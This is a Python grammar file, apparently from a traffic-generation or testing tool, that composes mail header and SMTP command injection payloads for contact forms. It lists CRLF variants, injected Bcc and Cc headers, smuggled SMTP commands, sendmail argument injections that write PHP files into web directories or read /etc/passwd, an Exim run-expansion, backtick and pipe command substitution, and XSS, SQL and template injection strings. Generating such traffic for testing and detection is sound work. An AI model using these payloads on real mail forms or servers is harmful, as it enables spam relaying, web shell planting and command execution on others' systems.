"""Mail header and SMTP command injection through contact forms (RFC 5321, RFC 5322)."""

from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "nl": ("\n", "\r\n", "%0a", "%0d%0a", "%0A", "\\n", "\\r\\n", "%0D%0A", "\r", "%0d"),
    "to": ("‹name›@‹evil›", "‹name›@‹word›.com", "‹id›@‹word›.‹tld›", "spam‹n›@‹evil›"),
    "from": ("‹name›@‹word›.com", "‹words›", "‹name›", "‹to›", '"‹name›" <‹to›>'),
    "h": (
        "Bcc: ‹to›", "bcc:‹to›", "Cc: ‹to›", "cc:‹to›,‹to›", "To: ‹to›", "Subject: ‹words›",
        "Reply-To: ‹to›", "From: ‹to›", "Content-Type: text/html",
        "Content-Type: multipart/mixed; boundary=‹rnd›", "MIME-Version: 1.0", "X-Mailer: ‹rnd›",
        "Return-Path: ‹to›", "BCC:‹to›;‹to›", "Disposition-Notification-To: ‹to›",
    ),
    "sh": (
        "-OQueueDirectory=/tmp -X/var/www/‹id›.php", "-oQ/tmp/ -X/var/www/cache/‹id›.php",
        "-be ${run{‹id›}}", "-C/etc/passwd -X/tmp/‹id›", "-bv -X /tmp/‹id›.log",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    copy=(
        "‹from›‹nl#1›‹h›", "‹from›‹nl#1›Bcc:‹to›", "‹from›‹nl#1›cc: ‹to›‹nl#1›bcc: ‹to›",
        "‹nl#1›Bcc: ‹to›",
    ),
    more_headers=(
        "‹from›‹nl#1›‹h›‹nl#1›‹h›", "‹from›‹nl#1›‹h›‹nl#1›‹h›‹nl#1›‹nl#1›‹words›",
        "‹from›‹nl#1›‹h›‹nl#1›‹nl#1›<script>alert(‹n›)</script>",
    ),
    multipart=(
        '‹from›‹nl#1›Content-Type: multipart/mixed; boundary="‹rnd#1›"‹nl#1›--‹rnd#1›‹nl#1›Content'
        "-Type: text/html‹nl#1›‹nl#1›‹words›‹nl#1›--‹rnd#1›--",
        "‹from›‹nl#1›MIME-Version: 1.0‹nl#1›Content-Type: text/html‹nl#1›‹nl#1›<a href=‹url›>"
        "‹words›</a>",
    ),
    smtp=(
        "‹from›>‹nl#1›RCPT TO:<‹to›>",
        "‹from›‹nl#1›.‹nl#1›MAIL FROM:<‹to›>‹nl#1›RCPT TO:<‹to›>‹nl#1›DATA‹nl#1›Subject: ‹words›",
        "‹words›‹nl#1›.‹nl#1›QUIT‹nl#1›‹abc›", "‹name›@[‹ip›]‹nl#1›DATA‹nl#1›‹words›‹nl#1›.",
        "‹from›‹nl#1›VRFY ‹name›‹nl#1›EXPN ‹id›", '‹d›"‹nl#1›V100 CAPABILITY‹nl#1›V101 FETCH ‹n›',
        'INBOX" ‹nl#1›A‹d› DELETE ‹id›‹nl#1›"',
    ),
    arguments=(
        "‹name›@‹word›.com ‹sh›", '"‹name›\\" ‹sh› ‹abc›"@‹word›.com', "'‹name› ‹sh›'@‹word›.com",
        '"‹abc›\'‹sh› \'"@‹word›.com', "‹sh› ‹name›@‹word›.com",
    ),
    address=(
        '"<script>alert(‹n›)</script>"@‹word›.com', "‹name›@‹word›.com'%0aX-‹id›:‹rnd›",
        '"‹name›;‹id›\\"|id|"@‹word›.com', "‹name›+(<script>alert(‹n›)</script>)@‹word›.com",
        "‹name›@‹word›.com(<svg onload=alert(‹n›)>)", '"\' OR ‹d#1›=‹d#1› -- "@‹word›.com',
        "‹name›@‹word›.com%00@‹evil›", "‹name›@`whoami`.‹evil›", '"<%= ‹d› * ‹n› %>"@‹word›.com',
        "‹name›@${‹n›*‹n›}.‹word›.com", "‹to›,‹to›%0aBcc:‹to›",
        "=?utf-8?q?‹name›=40‹evil›=3e=00?=‹rnd›@‹word›.com",
    ),
)
